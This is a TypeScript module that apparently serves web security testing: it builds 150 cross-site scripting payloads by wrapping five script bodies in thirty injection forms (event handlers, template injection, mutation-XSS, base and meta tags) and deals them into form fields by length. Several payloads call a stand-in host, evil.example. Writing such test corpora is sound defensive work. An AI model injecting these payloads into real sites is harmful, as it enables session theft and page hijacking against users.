const scripts = [
  'alert(1)',
  'confirm`1`',
  'top[/al/.source+/ert/.source](1)',
  'fetch("//evil.example")',
  '\u202Ealert(1)',
];

const wrappers: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<ScRiPt/x>${script}</sCrIpT>`,
  (script) => `<img src=x onerror=${script}>`,
  (script) => `<svg/onload=${script}>`,
  (script) => `"><body onload=${script}>`,
  (script) => `' autofocus onfocus=${script} x='`,
  (script) => `" autofocus onfocus=${script} x="`,
  (script) => `</textarea><script>${script}</script>`,
  (script) => `</title><script>${script}</script>`,
  (script) => `<a href="javascript:${script}">x</a>`,
  (script) => `<iframe srcdoc="<script>${script}</script>">`,
  (script) => `{{{${script}}}}`,
  (script) => `{{constructor.constructor "${script}"}}`,
  (script) => `<!--><img src=x onerror=${script}>-->`,
  (script) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${script}>`,
  (script) => `<details open ontoggle=${script}>`,
  (script) => `<input onfocus=${script} autofocus>`,
  (script) => `<style>@import'//evil.example';</style>${script}`,
  (script) => `<link rel=stylesheet href=//evil.example>${script}`,
  (script) => `<base href=//evil.example>${script}`,
  (script) => `<meta http-equiv=refresh content="0;url=//evil.example">${script}`,
  (script) => `<object data="data:text/html,<script>${script}</script>">`,
  (script) => `\`\${${script}}\``,
  (script) => `]]><script>${script}</script>`,
  (script) => `<button form=form formaction=javascript:${script}>x`,
  (script) => `&lt;script&gt;${script}&lt;/script&gt;<b onclick=${script}>`,
  (script) => `<video><source onerror=${script}>`,
  (script) => `<form action=javascript:${script}><button>x`,
  (script) => `\u2028<script>${script}</script>`,
  (script) => `<template><script>${script}</script></template>`,
];

/** A hundred and fifty texts that would be code, if a page took them for its own. */
export const corpus: readonly string[] = wrappers.flatMap((wrap) => scripts.map(wrap));

/** Longer texts are no names, and may hold signs that turn the direction. */
const longestName = 160;
const isForNames = (payload: string): boolean => !/[\u202E\u2028]/.test(payload);

/** Deals out the corpus, round after round: each field is given as many texts as fit. */
export class Payloads {
  /** What was given to each field, by the name of the field. */
  readonly given: { name: string; text: string }[] = [];
  private left: string[] = [];

  /** @param limit characters that the field takes */
  deal(name: string, limit: number): string {
    const parts: string[] = [];
    for (let room = limit; ;) {
      const payload = this.take((one) => [...one].length <= room && (limit > longestName || isForNames(one)));
      if (payload === undefined) break;
      parts.push(payload);
      room -= [...payload].length + 1;
    }
    const text = parts.join(' ');
    this.given.push({ name, text });
    return text;
  }

  /** One that was not given in this round; of those that were, only where nothing else fits the field. */
  private take(fits: (payload: string) => boolean): string | undefined {
    if (this.left.length === 0) this.left = [...corpus];
    const at = this.left.findIndex(fits);
    if (at >= 0) return this.left.splice(at, 1)[0];
    const last = this.given.at(-1);
    return corpus.find((one) => fits(one) && one !== last?.text);
  }
}
